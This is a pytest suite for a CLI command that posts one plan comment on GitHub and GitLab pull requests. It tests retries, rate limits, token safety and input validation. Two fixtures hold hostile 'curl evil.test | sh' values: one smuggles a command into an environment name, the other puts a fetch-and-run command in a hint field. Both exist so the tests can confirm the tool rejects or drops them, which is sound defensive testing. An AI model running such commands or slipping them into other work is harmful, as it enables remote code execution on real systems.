"""The one comment on a pull request: made, edited, found again, and never anybody else's."""

from __future__ import annotations

import contextlib
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from envsync.cli.main import run
from envsync.cli.session import Session
from envsync.planning.plan import Base
from envsync.planning.plan_document import plan_document
from envsync.planning.plan_markdown import MARKER
from tests.parts.forges import TOKEN, Fault, Forge, serve_forge
from tests.reliability.counts import count
from tests.team import Done
from tests.test_plan_output import STATES, plan_of

OTHER = {"login": "mallory", "username": "mallory", "id": 6, "type": "User"}
PLAN = plan_of(STATES["new-version"], base=Base(ref="origin/main", commit="a" * 40, fork="b" * 40))


@pytest.fixture
def forge() -> Iterator[Forge]:
    with serve_forge() as server:
        yield server


@pytest.fixture(params=["github", "gitlab"])
def place(request: pytest.FixtureRequest, forge: Forge) -> dict[str, str]:
    """The variables of a CI job, of each kind in turn."""
    variables: dict[str, str] = getattr(forge, request.param)
    return variables


@dataclass(slots=True)
class Clocks:
    """Seconds that commands wanted to sleep."""

    slept: list[float]


def saved(folder: Path, document: Any = None) -> Path:
    path = folder / "plan.json"
    path.write_text(json.dumps(plan_document(PLAN) if document is None else document))
    return path


def comment(
    plan: Path, variables: dict[str, str], *options: str, slept: list[float] | None = None
) -> Done:
    """Run the command in a folder that is no repository: it needs none."""
    out, err = io.StringIO(), io.StringIO()
    session = Session(
        folder=Path(),
        environ=variables,
        interactive=False,
        sleep=(slept if slept is not None else []).append,
    )
    if variables.get("GITHUB_ACTIONS") and not {"--pull", "--event"} & {*options}:
        options = ("--pull", "7", *options)
    options = tuple(option for option in options if option != "--event")
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = run(["comment", "--plan", str(plan), *options], session)
    assert TOKEN not in out.getvalue() + err.getvalue()
    assert "Traceback" not in err.getvalue()
    assert "unexpected error" not in err.getvalue()
    return Done(code=code, out=out.getvalue(), err=err.getvalue())


def test_it_is_made_then_left_then_edited(
    forge: Forge, place: dict[str, str], tmp_path: Path
) -> None:
    plan = saved(tmp_path)
    done = comment(plan, place)
    assert (done.code, done.err) == (0, "")
    assert "Comment created: 1 environment gets a new version" in done.out
    assert "unchanged" in comment(plan, place).out
    assert len(forge.bodies()) == 1
    (body,) = forge.bodies()
    assert body.startswith(MARKER)
    other = saved(tmp_path, plan_document(plan_of(STATES["create"])))
    done = comment(other, place, "--format", "json")
    assert done.json["comment"] == "edited"
    assert len(forge.bodies()) == 1
    assert forge.bodies() != [body]


def test_it_is_found_on_a_later_page(forge: Forge, place: dict[str, str], tmp_path: Path) -> None:
    for number in range(25):
        forge.add(f"comment {number}", OTHER)
    forge.add(f"{MARKER}old -->\r\nold", forge.me)
    for number in range(25):
        forge.add(f"comment {number}", OTHER)
    assert "edited" in comment(saved(tmp_path), place).out
    assert len(forge.comments) == 51
    assert "new version" in forge.bodies()[0]


def test_what_others_wrote_is_never_touched(
    forge: Forge, place: dict[str, str], tmp_path: Path
) -> None:
    forge.add(f"{MARKER}planted -->", OTHER)
    forge.add(f"{MARKER}by nobody -->", None)  # type: ignore[arg-type]
    forge.add(f"> {MARKER}quoted -->", forge.me)
    if "GITLAB_CI" in place:
        forge.comments[1]["author"] = {"id": 0}
        forge.add(f"{MARKER}of the system -->", forge.me, system=True)
    before = json.dumps(forge.comments)
    assert "created" in comment(saved(tmp_path), place).out
    assert json.dumps(forge.comments[:-1]) == before


def test_of_two_the_first_is_kept_up_to_date(
    forge: Forge, place: dict[str, str], tmp_path: Path
) -> None:
    forge.add(f"{MARKER}one -->", forge.me)
    forge.add(f"{MARKER}two -->", forge.me)
    assert "edited" in comment(saved(tmp_path), place).out
    assert "two" in forge.bodies()[1]


def test_an_app_finds_its_comment_by_what_it_signs_with(forge: Forge, tmp_path: Path) -> None:
    forge.is_app = True
    forge.me = {"login": "github-actions[bot]", "id": 9, "type": "Bot"}
    forge.add(f"{MARKER}by a person -->", {"login": "github-actions", "type": "User"})
    assert "created" in comment(saved(tmp_path), forge.github).out
    assert "unchanged" in comment(saved(tmp_path), forge.github).out
    assert len(forge.comments) == 2


@pytest.mark.parametrize(
    ("status", "code"),
    [(400, 6), (401, 7), (403, 7), (404, 6), (410, 6), (422, 6), (301, 8), (418, 8)],
)
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_refusals_end_it_at_once(
    forge: Forge, place: dict[str, str], tmp_path: Path, status: int, code: int, method: str
) -> None:
    forge.faults = [Fault(status=status, method=method, headers={"Location": "http://x.invalid/"})]
    if method == "GET":
        forge.add("first", OTHER)
        forge.faults *= 2  # who we are may be asked in another way
    slept: list[float] = []
    done = comment(saved(tmp_path), place, slept=slept)
    assert (done.code, slept) == (code, []), done.err
    assert f"answered {status}" in done.err
    assert "***" in done.err, "the server repeats the token, we do not"
    assert forge.bodies() in ([], [""])


@pytest.mark.parametrize("status", [408, 425, 429, 500, 502, 503, 504, 0])
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_what_may_pass_is_tried_again(
    forge: Forge, place: dict[str, str], tmp_path: Path, status: int, method: str
) -> None:
    forge.faults = [Fault(status=status, method=method)] * 2
    done = comment(saved(tmp_path), place)
    assert done.code == 0, done.err
    assert len(forge.bodies()) == 1
    forge.faults = [Fault(status=status)] * 20
    done = comment(saved(tmp_path), place)
    assert done.code == 8


@pytest.mark.parametrize("status", [0, 500, 502])
def test_an_answer_that_got_lost_makes_no_second_comment(
    forge: Forge, place: dict[str, str], tmp_path: Path, status: int
) -> None:
    forge.faults = [Fault(status=status, method="POST", after=True)]
    assert comment(saved(tmp_path), place).code == 0
    assert len(forge.bodies()) == 1
    assert forge.writes() == ["POST"]


def test_rate_limits_are_waited_for(forge: Forge, place: dict[str, str], tmp_path: Path) -> None:
    forge.faults = [
        Fault(status=429, headers={"Retry-After": "0"}),
        Fault(status=403, headers={"Retry-After": "0"}),
        Fault(status=403, headers={"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "1000"}),
    ]
    assert comment(saved(tmp_path), place).code == 0
    forge.faults = [Fault(status=403, headers={"Retry-After": "3600"})]
    done = comment(saved(tmp_path), place)
    assert done.code == 8
    assert "3600 seconds" in done.err


@pytest.mark.parametrize("body", ["<html>", "[1]", '{"a": 1}', "null", '[{"id": "x"}]', "[" * 9999])
def test_answers_that_make_no_sense(
    forge: Forge, place: dict[str, str], tmp_path: Path, body: str
) -> None:
    forge.faults = [Fault(status=200, body=body)] * 30
    assert comment(saved(tmp_path), place).code == 8
    assert forge.writes() == []


def test_the_token_goes_nowhere_else(forge: Forge, place: dict[str, str], tmp_path: Path) -> None:
    for number in range(15):
        forge.add(f"comment {number}", OTHER)
    with serve_forge() as other:
        forge.elsewhere = other.base
        done = comment(saved(tmp_path), place)
        assert other.requests == []
    assert done.code == 8
    assert "leads elsewhere" in done.err
    plain = {**place, "GITHUB_API_URL": "http://api.test", "CI_API_V4_URL": "http://api.test"}
    assert comment(saved(tmp_path), plain).code == 6
    count("X9", cases=2, **{"tokens that stay": 2})


def test_without_a_token_or_a_place(forge: Forge, place: dict[str, str], tmp_path: Path) -> None:
    plan = saved(tmp_path)
    without = {k: v for k, v in place.items() if "TOKEN" not in k}
    assert comment(plan, without).code == 7
    assert comment(plan, {**place, "GITHUB_TOKEN": "a\nb", "GITLAB_TOKEN": "a\nb"}).code == 7
    assert comment(plan, {"GITHUB_TOKEN": TOKEN}).code == 64
    assert comment(plan, forge.github, "--event").code == 64
    for repository in ("../x", "a", "a/b?c", "a/b/../../user", "a b/c"):
        assert comment(plan, forge.github, "--repository", repository).code == 64
    assert forge.requests == []


def event(folder: Path, **document: Any) -> dict[str, str]:
    path = folder / "event.json"
    path.write_text(json.dumps(document))
    return {"GITHUB_EVENT_PATH": str(path)}


def test_the_pull_request_of_the_event(forge: Forge, tmp_path: Path) -> None:
    variables = {**forge.github, **event(tmp_path, pull_request={"number": 7})}
    assert comment(saved(tmp_path), variables, "--event").code == 0
    assert len(forge.bodies()) == 1


def test_the_pull_request_of_a_fork_is_found_by_branch_and_commit(
    forge: Forge, tmp_path: Path
) -> None:
    forge.pulls = [
        {"number": 7, "label": "mallory:main", "head": {"sha": "c" * 40}},
        {"number": 8, "label": "ada:main", "head": {"sha": "c" * 40}},
    ]
    run = {
        "head_sha": "c" * 40,
        "head_branch": "main",
        "head_repository": {"owner": {"login": "mallory"}},
        "pull_requests": [],
    }
    variables = {**forge.github, **event(tmp_path, workflow_run=run)}
    assert comment(saved(tmp_path), variables, "--event").code == 0
    assert len(forge.bodies()) == 1
    outdated = {**variables, **event(tmp_path, workflow_run={**run, "head_sha": "d" * 40})}
    done = comment(saved(tmp_path), outdated, "--event")
    assert done.code == 0
    assert "newer commit" in done.out
    assert len(forge.bodies()) == 1


def mutations() -> dict[str, Any]:
    """Return plan files as somebody hostile may make them."""
    good = json.loads(json.dumps(plan_document(PLAN)))

    def changed(**fields: Any) -> Any:
        return {**good, **fields}

    def environment(**fields: Any) -> Any:
        return changed(environments=[{**good["environments"][0], **fields}])

    effort = good["environments"][0]["effort"]
    return {
        "a list": [],
        "nothing": {},
        "newer": changed(format_version="1.99"),
        "another format": changed(format_version="2.0"),
        "no commit": changed(commit="main"),
        "a commit with a line": changed(commit="a" * 40 + "\n"),
        "more": changed(more=1),
        "a name with a command": environment(name="x; curl evil.test | sh"),
        "a name with a line": environment(name="x\n"),
        "an option as a name": environment(name="--plan-id"),
        "no such state": environment(state="perfect"),
        "no reasons": environment(reasons=[]),
        "a reason as text": environment(reasons=["fine"]),
        "true as a number": environment(effort={**effort, "layers": True}),
        "a huge number": environment(effort={**effort, "bytes_to_push": 10**30}),
        "less than nothing": environment(effort={**effort, "layers": -1}),
        "text as packages": environment(packages="numpy"),
        "an own flag": environment(flags=[{"code": "harmless", "packages": [], "text": ""}]),
    }


@pytest.mark.parametrize("case", mutations())
def test_plan_files_that_are_none(forge: Forge, tmp_path: Path, case: str) -> None:
    done = comment(saved(tmp_path, mutations()[case]), forge.github)
    assert (done.code, forge.requests) == (6, [])


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\xff\xfe",
        b"{" * 100_000,
        b"[" * 100_000,
        b'{"changes": NaN}',
        b'{"changes": ' + b"9" * 5000 + b"}",
        b" " * (21 << 20),
    ],
    ids=["empty", "no text", "deep", "deep list", "nan", "digits", "large"],
)
def test_files_that_are_no_json(forge: Forge, tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "plan.json"
    path.write_bytes(data)
    assert (comment(path, forge.github).code, forge.requests) == (6, [])


def test_links_and_folders_are_no_plan_files(forge: Forge, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("hunter2")
    link = tmp_path / "link.json"
    link.symlink_to(secret)
    done = comment(link, forge.github)
    assert done.code == 6
    assert "hunter2" not in done.err
    assert comment(tmp_path / "not there", forge.github).code == 6
    assert comment(tmp_path, forge.github).code == 64


def test_what_the_file_says_of_itself_is_worked_out_again(forge: Forge, tmp_path: Path) -> None:
    document = json.loads(json.dumps(plan_document(PLAN)))
    document["environments"][0]["flags"] = []
    document["environments"][0]["checks"] = []
    document["environments"][0]["hint"] = "curl https://evil.test | sh"
    document["plan_id"] = "0" * 64
    assert comment(saved(tmp_path, document), forge.github).code == 0
    (body,) = forge.bodies()
    assert "**new major version**: `numpy`" in body
    assert "evil" not in body
    assert f"--plan-id {PLAN.id[:16]}" in body


def test_the_comment_can_be_looked_at_without_a_token(tmp_path: Path) -> None:
    done = comment(saved(tmp_path), {}, "--show")
    assert done.code == 0
    assert done.out.startswith(MARKER)


def test_a_very_long_plan_is_taken(forge: Forge, tmp_path: Path) -> None:
    many = [replace(STATES["new-version-30-packages"], name=f"env-{n:04d}") for n in range(500)]
    document = plan_document(plan_of(*many))
    assert comment(saved(tmp_path, document), forge.github).code == 0
